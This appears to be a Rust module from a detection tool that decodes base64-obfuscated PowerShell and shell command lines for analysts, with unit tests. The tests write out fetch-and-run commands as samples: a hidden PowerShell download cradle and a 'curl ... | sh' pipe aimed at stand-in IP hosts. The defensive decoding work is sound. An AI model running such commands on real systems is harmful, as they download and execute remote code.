//! Decodes what an analyst would decode in a command line before judging it: PowerShell's
//! `-EncodedCommand` (base64 of UTF-16LE), `FromBase64String('…')` literals, and shell
//! pipes that feed a base64 literal to `base64 -d`. The decoded text is judged like plain
//! text (the same download is the same download, encoded or not) and its URLs, addresses
//! and hashes become entities. Bounded: a hostile command line cannot make it work hard.

use base64::Engine as _;

/// The longest encoded text decoded; longer literals are not commands an analyst reads.
const MAX_ENCODED_BYTES: usize = 64 * 1024;

/// Everything `command_line` hides, decoded, one piece per line; `None` when it hides
/// nothing this module reads.
pub fn decode_command(command_line: &str) -> Option<String> {
    let mut pieces: Vec<String> = Vec::new();
    let tokens: Vec<&str> = command_line
        .split(|character: char| character.is_whitespace())
        .filter(|token| !token.is_empty())
        .collect();
    for (index, token) in tokens.iter().enumerate() {
        if is_encoded_command_switch(token)
            && let Some(next) = tokens.get(index + 1)
            && let Some(text) = decode_base64_text(trim_quotes(next))
        {
            pieces.push(text);
        }
    }
    pieces.extend(from_base64_string_literals(command_line));
    pieces.extend(piped_to_base64_decode(&tokens));
    pieces.retain(|piece| !piece.trim().is_empty());
    pieces.dedup();
    (!pieces.is_empty()).then(|| pieces.join("\n"))
}

/// `-e`, `-ec`, `-enc`, … `-EncodedCommand` (PowerShell takes any unambiguous prefix of
/// `-EncodedCommand`, with `-` or `/`, in any case).
fn is_encoded_command_switch(token: &str) -> bool {
    let Some(name) = token
        .strip_prefix('-')
        .or_else(|| token.strip_prefix('/'))
        .map(str::to_ascii_lowercase)
    else {
        return false;
    };
    name == "ec" || (!name.is_empty() && "encodedcommand".starts_with(name.as_str()))
}

fn trim_quotes(token: &str) -> &str {
    token.trim_matches(|character: char| matches!(character, '"' | '\'' | '`' | ';' | ')' | '('))
}

/// Base64 to text: UTF-16LE when every other byte is zero (what PowerShell encodes), else
/// UTF-8. `None` when it is not base64 of readable text.
fn decode_base64_text(encoded: &str) -> Option<String> {
    if encoded.len() < 8 || encoded.len() > MAX_ENCODED_BYTES {
        return None;
    }
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(encoded)
        .or_else(|_| base64::engine::general_purpose::STANDARD_NO_PAD.decode(encoded))
        .ok()?;
    let utf16 = bytes.len() >= 2
        && bytes.len() % 2 == 0
        && bytes
            .iter()
            .skip(1)
            .step_by(2)
            .filter(|byte| **byte == 0)
            .count()
            * 10
            >= bytes.len() / 2 * 9;
    let text = if utf16 {
        let units: Vec<u16> = bytes
            .chunks_exact(2)
            .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
            .collect();
        String::from_utf16(&units).ok()?
    } else {
        String::from_utf8(bytes).ok()?
    };
    let readable = text
        .chars()
        .all(|character| !character.is_control() || character.is_whitespace());
    readable.then_some(text)
}

/// The literals of `FromBase64String('…')` (and `"…"`), decoded.
fn from_base64_string_literals(command_line: &str) -> Vec<String> {
    let lowered = command_line.to_ascii_lowercase();
    let mut found = Vec::new();
    let mut from = 0;
    while let Some(offset) = lowered[from..].find("frombase64string(") {
        let start = from + offset + "frombase64string(".len();
        let rest = &command_line[start..];
        let literal = rest
            .trim_start()
            .trim_start_matches(['\'', '"'])
            .split(['\'', '"', ')'])
            .next()
            .unwrap_or_default();
        if let Some(text) = decode_base64_text(literal.trim()) {
            found.push(text);
        }
        from = start;
    }
    found
}

/// `echo <base64> | base64 -d` and `base64 --decode <<< <base64>`.
fn piped_to_base64_decode(tokens: &[&str]) -> Vec<String> {
    let mut found = Vec::new();
    for (index, token) in tokens.iter().enumerate() {
        let decoder = trim_quotes(token) == "base64"
            && tokens
                .get(index + 1)
                .is_some_and(|flag| matches!(*flag, "-d" | "--decode" | "-D"));
        if !decoder {
            continue;
        }
        // The literal piped in: the token before the `|` before `base64`.
        let piped = index >= 2 && tokens[index - 1] == "|";
        let candidate = if piped {
            Some(tokens[index - 2])
        } else {
            tokens
                .get(index + 2)
                .filter(|here| **here == "<<<")
                .and_then(|_| tokens.get(index + 3).copied())
        };
        if let Some(text) = candidate.and_then(|literal| decode_base64_text(trim_quotes(literal))) {
            found.push(text);
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16_base64(text: &str) -> String {
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn powershell_encoded_commands_decode_under_any_switch_prefix() {
        let hidden = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/a.ps1')";
        for switch in ["-EncodedCommand", "-enc", "-e", "-EC", "/enc", "-en"] {
            let command = format!(
                "powershell.exe -NoP -W Hidden {switch} {}",
                utf16_base64(hidden)
            );
            assert_eq!(
                decode_command(&command).as_deref(),
                Some(hidden),
                "{switch}"
            );
        }
        // -ExecutionPolicy is not -EncodedCommand.
        assert_eq!(
            decode_command("powershell -ExecutionPolicy Bypass -File x.ps1"),
            None
        );
    }

    #[test]
    fn base64_literals_and_shell_pipes_decode_too() {
        let inner =
            base64::engine::general_purpose::STANDARD.encode("curl http://198.51.100.7/x | sh");
        assert_eq!(
            decode_command(&format!("/bin/sh -c echo {inner} | base64 -d | sh")).as_deref(),
            Some("curl http://198.51.100.7/x | sh")
        );
        assert_eq!(
            decode_command(&format!("bash -c \"base64 --decode <<< {inner} | bash\"")).as_deref(),
            Some("curl http://198.51.100.7/x | sh")
        );
        let literal = utf16_base64("Start-Process calc");
        assert_eq!(
            decode_command(&format!(
                "powershell -c \"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{literal}'))|iex\""
            ))
            .as_deref(),
            Some("Start-Process calc")
        );
    }

    #[test]
    fn what_is_not_readable_text_is_left_alone() {
        assert_eq!(decode_command("powershell -enc !!!notbase64!!!"), None);
        assert_eq!(decode_command("powershell -enc AAECAwQFBgc="), None);
        assert_eq!(decode_command("ls -la /tmp"), None);
        let huge = "A".repeat(MAX_ENCODED_BYTES + 4);
        assert_eq!(decode_command(&format!("powershell -enc {huge}")), None);
        for hostile in [
            "-e",
            "-e ",
            "FromBase64String(",
            "FromBase64String('",
            "| base64 -d",
            "base64 -d <<<",
        ] {
            let _ = decode_command(hostile);
        }
    }
}
